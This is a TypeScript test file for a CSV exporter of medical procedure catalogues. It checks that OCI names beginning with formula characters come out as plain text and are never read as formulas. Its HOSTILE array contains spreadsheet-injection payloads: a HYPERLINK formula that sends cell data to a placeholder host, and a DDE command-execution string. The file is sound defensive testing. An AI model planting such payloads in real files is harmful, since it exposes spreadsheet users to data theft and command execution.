/**
 * catalogo.csv is opened in spreadsheets: a cell that starts with `=`, `+`, `-`, `@`, tab or CR
 * would be read as a formula (OWASP "CSV Injection") — `=HYPERLINK(…)` in an OCI's name would run
 * in the reader's spreadsheet. The test builds a copy of the example whose OCI names carry such
 * texts, then reads catalogo.csv the way a spreadsheet does (BOM, `;`, RFC 4180 quotes, then each
 * cell's type from its first character) and requires text cells only where text was written,
 * numbers where numbers were written, and every name shown as written.
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../cli-harness.js';
import { csvCell } from '../../language/src/generator/catalogo-published.js';
import { REPO_ROOT } from '../helpers.js';

const EXAMPLE = path.join(REPO_ROOT, 'examples/pmae');

/** Splits CSV text into rows of raw cell texts, as a spreadsheet's import does (RFC 4180 quoting, `;`). */
function readCsv(text: string): string[][] {
    if (text.startsWith('\uFEFF')) text = text.slice(1);
    const rows: string[][] = [];
    let row: string[] = [];
    let cell = '';
    let quoted = false;
    for (let i = 0; i < text.length; i++) {
        const ch = text[i];
        if (quoted) {
            if (ch === '"' && text[i + 1] === '"') {
                cell += '"';
                i++;
            } else if (ch === '"') quoted = false;
            else cell += ch;
        } else if (ch === '"') quoted = true;
        else if (ch === ';') {
            row.push(cell);
            cell = '';
        } else if (ch === '\r' && text[i + 1] === '\n') {
            row.push(cell);
            rows.push(row);
            row = [];
            cell = '';
            i++;
        } else cell += ch;
    }
    if (cell !== '' || row.length > 0) {
        row.push(cell);
        rows.push(row);
    }
    return rows;
}

type SpreadsheetCell = { kind: 'formula' | 'number' | 'text'; shown: string };

/**
 * What a spreadsheet makes of a cell: a formula when it starts with a formula character, a number, or text (a leading
 * apostrophe marks text).
 */
function interpret(raw: string): SpreadsheetCell {
    if (/^-?\d+(?:,\d+)?$/.test(raw)) return { kind: 'number', shown: raw };
    if (/^[=+\-@\t\r]/.test(raw)) return { kind: 'formula', shown: raw };
    return { kind: 'text', shown: raw.startsWith("'") ? raw.slice(1) : raw };
}

const HOSTILE = [
    '=HYPERLINK("http://exemplo.invalid/?d="&A1;"clique")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1;1)',
    '\t=1+1',
    '\r=1+1'
];

let tmp: string;
beforeAll(() => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'oci-csv-'));
});
afterAll(() => {
    fs.rmSync(tmp, { recursive: true, force: true });
});

describe('catalogo.csv read by a spreadsheet', () => {
    it('shows hostile OCI names as text, never as formulas, and keeps numbers as numbers', async () => {
        const dir = path.join(tmp, 'catalogo');
        fs.cpSync(EXAMPLE, dir, { recursive: true });
        const file = path.join(dir, 'cardiologia.oci');
        let text = fs.readFileSync(file, 'utf8');
        const names = [...text.matchAll(/^oci (\S+) "([^"]*)"/gm)].slice(0, HOSTILE.length);
        expect(names).toHaveLength(HOSTILE.length);
        const written = new Map<string, string>();
        names.forEach((m, i) => {
            const escaped = HOSTILE[i]
                .replace(/\\/g, '\\\\')
                .replace(/"/g, '\\"')
                .replace(/\t/g, '\\t')
                .replace(/\r/g, '\\r');
            text = text.replace(m[0], `oci ${m[1]} "${escaped}"`);
            written.set(m[1], HOSTILE[i]);
        });
        fs.writeFileSync(file, text);
        const out = path.join(tmp, 'saida');
        const { code, err } = await runCli('build', dir, '--out', out);
        expect(err).toBe('');
        expect(code).toBe(0);

        const rows = readCsv(fs.readFileSync(path.join(out, 'catalogo.csv'), 'utf8'));
        const header = rows[0];
        const body = rows.slice(1);
        expect(body.length).toBeGreaterThan(0);
        for (const row of body) {
            expect(row).toHaveLength(header.length);
            for (const raw of row) expect(interpret(raw).kind, raw).not.toBe('formula');
        }
        const seen = new Map(
            body.map(r => [r[header.indexOf('codigo_oci')], interpret(r[header.indexOf('nome_oci')]).shown])
        );
        for (const [codigo, nome] of written) expect(seen.get(codigo)).toBe(nome);
        // Money and counts stay numbers (the neutralisation does not turn them into text).
        for (const column of ['valor_oci', 'qt', 'valor_linha']) {
            for (const row of body) expect(interpret(row[header.indexOf(column)]).kind).toBe('number');
        }
    });

    it('neutralises every formula start but leaves numbers, including negative ones', () => {
        for (const start of ['=', '+', '-', '@', '\t', '\r'])
            expect(interpret(readCsv(`${csvCell(`${start}1+1`)}\r\n`)[0][0]).kind).toBe('text');
        expect(csvCell('-12,50')).toBe('-12,50');
        expect(csvCell(3)).toBe('3');
        expect(csvCell('OCI AVALIAÇÃO - SÍNDROME')).toBe('OCI AVALIAÇÃO - SÍNDROME');
    });
});
